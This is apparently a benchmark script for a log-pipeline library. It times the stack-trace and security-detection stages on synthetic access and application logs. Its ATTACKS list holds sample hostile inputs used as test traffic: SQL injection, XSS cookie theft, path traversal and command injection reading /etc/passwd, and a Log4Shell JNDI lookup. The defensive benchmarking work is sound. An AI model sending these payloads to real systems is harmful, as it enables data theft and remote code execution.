"""Events/s on one core for the `stacktrace` and `security` stages on a realistic mix.

Also security throughput with 10 rules, all built-in rules, and all plus 1000 user rules, to show
that a multi-pattern scan does not slow down as rules are added.
Run: python benchmarks/bench_enrich_stages.py [--seconds 1] [--rounds 5] [--engine re2]
"""

from __future__ import annotations

import argparse
import random
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import orjson

from logpipe.normalize_text import scan_text as prepare
from logpipe.security_rules import builtin_rules
from logpipe.stages.base import BuildContext
from logpipe.stages.security import SecurityConfig, SecurityStage
from logpipe.stages.stacktrace import StackTraceConfig, StackTraceStage

BATCH = 500
PATHS = ["/", "/api/v1/orders", "/api/v1/users/{n}", "/static/js/app.{n}.js", "/search", "/cart"]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "okhttp/4.12.0",
    "Go-http-client/1.1",
]
ATTACKS = [
    "/products.php?cat=1%20UNION%20ALL%20SELECT%20NULL,concat(user,0x3a,password)--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/download?file=..%2f..%2f..%2fetc%2fpasswd",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/?x=${jndi:ldap://203.0.113.9:1389/a}",
    "/.git/config",
]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "gobuster/3.6"]
TRACES = [
    "java.lang.IllegalStateException: order {n} has no lines\n"
    "\tat com.shop.orders.OrderService.total(OrderService.java:88)\n"
    "\tat com.shop.orders.OrderController.checkout(OrderController.java:41)\n"
    "\tat java.base/java.lang.Thread.run(Thread.java:833)\n"
    "Caused by: java.sql.SQLException: Connection is not available\n"
    "\tat com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:181)\n\t... 50 more",
    "job {n} failed\nTraceback (most recent call last):\n"
    '  File "/app/jobs/runner.py", line 12, in run\n    job.load()\n'
    '  File "/app/jobs/import.py", line 41, in load\n    row = int(raw)\n'
    "ValueError: invalid literal for int() with base 10: 'abc'",
    "panic: runtime error: index out of range [{n}] with length 3\n\ngoroutine 1 [running]:\n"
    "main.main()\n\t/app/main.go:17 +0x85\nexit status 2",
    "TypeError: Cannot read properties of undefined (reading 'id')\n"
    "    at getUser (/app/src/users.js:14:22)\n"
    "    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)",
    "System.NullReferenceException: Object reference not set to an instance of an object.\n"
    "   at Shop.Baskets.BasketService.Total(Basket basket) in C:\\src\\Basket.cs:line 42",
]


def make_mix(count: int, seed: int = 7) -> list[dict]:
    """Access logs (~75%), app logs (~20%, 1 in 8 with a trace), attacks and auth failures."""
    rnd = random.Random(seed)
    events = []
    for n in range(count):
        roll = rnd.random()
        stamp = f"2024-05-02T10:{n // 600 % 60:02d}:{n // 10 % 60:02d}.{n % 1000:03d}Z"
        if roll < 0.75 or roll >= 0.99:
            ip = f"198.51.{rnd.randrange(256)}.{rnd.randrange(256)}"
            path = rnd.choice(PATHS).format(n=n) + ("?page=2&sort=asc" if n % 3 else "")
            agent, status = rnd.choice(AGENTS), rnd.choice((200, 200, 200, 304, 404))
            if roll >= 0.99:  # attacks, scanners and failed logins, ~1% of the mix
                kind = n % 3
                path = rnd.choice(ATTACKS) if kind == 0 else path
                agent = rnd.choice(SCANNERS) if kind == 1 else agent
                status = 401 if kind == 2 else status
                ip = "203.0.113.9" if kind == 2 else ip
            line = f'{ip} - - [02/May/2024:10:15:02 +0000] "GET {path} HTTP/1.1" {status} 512'
            events.append(
                {
                    "@timestamp": stamp,
                    "message": f'{line} "-" "{agent}"',
                    "source": {"ip": ip},
                    "http": {"request": {"method": "GET"}, "response": {"status_code": status}},
                    "url": {"original": path},
                    "user_agent": {"original": agent},
                }
            )
        elif rnd.random() < 0.125:
            trace = rnd.choice(TRACES).format(n=n)
            events.append({"@timestamp": stamp, "message": f"request {n} failed\n{trace}"})
        else:
            text = f"order {n} processed in {rnd.randrange(900)} ms for customer {n * 7919}"
            events.append({"@timestamp": stamp, "message": text, "log": {"level": "info"}})
    return events


def measure(stage: Callable[[list[dict]], list[dict]], mix: bytes, seconds: float) -> float:
    """Events/s of `stage` alone; fresh copies of the mix are made outside the timed part."""
    done, spent = 0, 0.0
    while spent < seconds:
        events = orjson.loads(mix)
        for start in range(0, len(events), BATCH):
            batch = events[start : start + BATCH]
            t0 = time.perf_counter()
            stage(batch)
            spent += time.perf_counter() - t0
            done += len(batch)
    return done / spent


def scan_cost(stage: SecurityStage, texts: list[str], seconds: float) -> float:
    """Microseconds per field value for the multi-pattern scan alone (engine cost)."""
    scan = next(scan for root, _, scan, _ in stage._fields if root == "url")
    done, t0 = 0, time.perf_counter()
    while time.perf_counter() - t0 < seconds:
        for text in texts:
            scan(text)
        done += len(texts)
    return (time.perf_counter() - t0) / done * 1e6


def user_rules_file(count: int, folder: Path) -> Path:
    """`count` distinct user rules, half of them for URL fields only."""
    rules = [
        {
            "id": f"custom.rule{n:04d}",
            "name": f"Custom probe {n}",
            "category": "custom",
            "patterns": [
                rf"/(?:internal|backup)/probe{n:04d}\b",
                rf"\bx-corp-{n:04d}=[a-f0-9]{{8}}",
            ],
            **({"fields": ["url.original"]} if n % 2 else {}),
        }
        for n in range(count)
    ]
    path = folder / "rules.yaml"
    path.write_bytes(orjson.dumps({"rules": rules}))  # JSON is YAML
    return path


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=1.0, help="per stage and round")
    parser.add_argument("--rounds", type=int, default=5, help="best round is reported")
    parser.add_argument("--events", type=int, default=20_000)
    parser.add_argument("--engine", default="auto", choices=("auto", "hyperscan", "re2"))
    args = parser.parse_args()
    events = make_mix(args.events)
    mix = orjson.dumps(events)
    trace_only = orjson.dumps([e for e in events if "\n" in e["message"]])
    ctx = BuildContext()
    traces = sum("\n" in e["message"] for e in events)
    print(f"mix: {len(events)} events, {traces} with traces, batches of {BATCH}")

    stack = StackTraceStage(StackTraceConfig(), ctx)
    runs = [("stacktrace", stack, mix, ""), ("stacktrace, traces only", stack, trace_only, "")]
    pattern_rules = [r.id for r in builtin_rules() if r.patterns]
    keep = set(pattern_rules[:10])
    off = tuple(r.id for r in builtin_rules() if r.patterns and r.id not in keep)
    with tempfile.TemporaryDirectory() as tmp:
        setups = [
            ("10 pattern rules", {"disable": off}),
            ("all built-in rules", {}),
            ("all + 1000 user rules", {"rules_file": str(user_rules_file(1000, Path(tmp)))}),
        ]
        for label, options in setups:
            t0 = time.perf_counter()
            stage = SecurityStage(SecurityConfig(matcher=args.engine, **options), ctx)
            built = time.perf_counter() - t0
            patterns = sum(len(r.patterns) for r in stage.rules)
            note = f"({len(stage.rules)} rules, {patterns} patterns, built in {built:.2f} s)"
            runs.append((f"security, {label}", stage, mix, note))
    values = [
        prepare(v)
        for e in events
        for v in (
            e["message"],
            e.get("url", {}).get("original"),
            e.get("user_agent", {}).get("original"),
        )
        if v
    ]
    best = [0.0] * len(runs)
    scans = [float("inf")] * len(runs)
    for _ in range(args.rounds):  # interleaved, so a busy machine hurts every stage alike
        for n, (_, stage, data, _) in enumerate(runs):
            best[n] = max(best[n], measure(stage, data, args.seconds))
            if isinstance(stage, SecurityStage):
                scans[n] = min(scans[n], scan_cost(stage, values, args.seconds / 2))
    for (label, _, _, note), rate, cost in zip(runs, best, scans, strict=True):
        scan = f"scan {cost:.2f} us/value " if cost < float("inf") else ""
        print(f"{label:<34} {rate:>10,.0f} events/s {scan}{note}")


if __name__ == "__main__":
    main()
